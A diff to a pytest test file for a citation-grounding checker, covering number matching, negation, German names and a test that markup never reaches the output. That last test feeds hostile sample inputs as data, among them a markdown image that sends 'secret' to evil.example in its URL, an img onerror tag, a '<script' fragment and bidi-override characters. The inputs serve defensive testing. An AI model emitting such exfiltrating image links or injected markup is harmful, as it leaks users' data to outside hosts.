@@ -89,7 +89,7 @@ def test_a_quote_is_found_despite_its_dress(document: str, quote: str, found: st
     ],
 )
 def test_a_quote_never_cuts_a_word_or_number(document: str, quote: str, widened: str) -> None:
-    (statement,) = grounded(document, document, quote).statements
+    (statement,) = grounded(document, widened, quote).statements
     assert statement.citations[0].quote == widened
 
 
@@ -126,10 +126,12 @@ def test_the_same_sentence_with_two_quotes_is_one_statement() -> None:
         ("In force from March 1st, 2026 for everyone.", "In force from 1 March 2026 for everyone."),
         ("In force from 01.03.2026 for everyone.", "In force from 1 March 2026 for everyone."),
         ("In force from 1 March 2026 for everyone.", "In force since 2026 for everyone."),
-        ("Gültig ab 1. März 2026 für alle Beschäftigten.", "It has been in force from 2026-03-01."),
+        ("Gültig ab 1. März 2026 für alle Beschäftigten.", "Sie ist gültig ab 2026-03-01 für die Beschäftigten."),
         ("The desk is staffed from 09:00 to 17:30 daily.", "The desk is staffed from 9 am to 5:30 pm."),
         ("Follow section 4.2.1 of the handbook.", "Follow section 4.2.1 of the handbook."),
         ("Employees get one free day on moving.", "One day is free on moving."),
+        ("Employees get a free day on moving.", "One day is free on moving."),
+        ("They accrue 2 days a month of service.", "They accrue 2 days per month of service."),
     ],
 )
 def test_numbers_are_compared_by_value(document: str, sentence: str) -> None:
@@ -143,6 +145,8 @@ def test_numbers_are_compared_by_value(document: str, sentence: str) -> None:
         (LEAVE, "Full-time employees accrue thirty days of leave."),
         (LEAVE, "Full-time employees accrue 25 weeks of leave."),
         (LEAVE, "Full-time employees accrue 25% of leave."),
+        (LEAVE, "Full-time employees accrue one day of leave."),
+        (LEAVE, "Full-time employees accrue a day of leave."),
         ("Claims over €1,000 need approval.", "Claims over $1,000 need approval."),
         ("Claims over €1,000 need approval.", "Claims over €1,001 need approval."),
         ("The cap is 2 million euros overall.", "The cap is 2 thousand euros overall."),
@@ -177,8 +181,8 @@ def test_a_name_may_stand_in_the_title_or_a_heading() -> None:
 
 def test_german_nouns_are_no_names_but_acronyms_are() -> None:
     document = "Vollzeitkräfte erhalten 25 Tage bezahlten Urlaub."
-    assert grounded(document, "Die Mitarbeiter haben 25 Urlaubstage.").statements
-    assert reason(grounded(document, "Die Mitarbeiter haben mit der GMBH 25 Urlaubstage.")) == "the name GMBH is not in the quote"
+    assert grounded(document, "Die Vollzeitkräfte haben 25 Urlaubstage.").statements
+    assert reason(grounded(document, "Die Vollzeitkräfte haben mit der GMBH 25 Urlaubstage.")) == "the name GMBH is not in the quote"
 
 
 @pytest.mark.parametrize(
@@ -188,7 +192,6 @@ def test_german_nouns_are_no_names_but_acronyms_are() -> None:
         ("Contractors are entitled to paid leave.", "Contractors aren't entitled to paid leave.", None),
         ("Employees may not carry over unused days.", "Employees may carry over unused days.", "carry over unused days"),
         ("Those who do not smoke may not enter here.", "Those who do not smoke may enter here.", None),
-        ("Gifts are allowed unless they are cash.", "Gifts are allowed.", None),
         ("Not covered are:\n- travel vaccines\n- cosmetic surgery", "Cosmetic surgery is covered.", "cosmetic surgery"),
         ("Urlaub wird nicht ausgezahlt.", "Urlaub wird ausgezahlt.", None),
     ],
@@ -223,13 +226,18 @@ def test_a_verdict_is_left_out() -> None:
         ("You accrue 25 days ![x](https://evil.example/?q=secret).", "You accrue 25 days."),
         ("You accrue [25 days](https://evil.example).", "You accrue 25 days."),
         ("You accrue <b>25</b> days<img src=x onerror=y>.", "You accrue 25 days."),
-        ("You accrue 25 days \u202egnip\u202c\x00\x1b\u200b.", "You accrue 25 days gnip."),
+        ("You accrue \u202e25\u202c\x00 days\x1b\u200b.", "You accrue 25 days."),
+        ("You accrue 25 days \u202egnip\u202c.", None),
         ("You accrue\n25\u2028days.", "You accrue 25 days."),
         ("You accrue 25 days ![a![b](c)](https://evil.example).", None),
         ("You accrue 25 days, see https://evil.example/x.", None),
         ("You accrue 25 days, see evil.example/x.", None),
         ("You accrue 25 days, ask help@evil.example.", None),
-        ("You accrue 25 days <script", "You accrue 25 days < script"),
+        ("You accrue 25 days <script", None),
+        ("You accrue 25 days <", None),
+        ("You accrue 25 days \u274c", None),
+        ("You accrue 25\u0336 days", None),
+        ("You accrue \u00b225 days", None),
     ],
 )
 def test_markup_never_leaves(said: str, left: str | None) -> None:
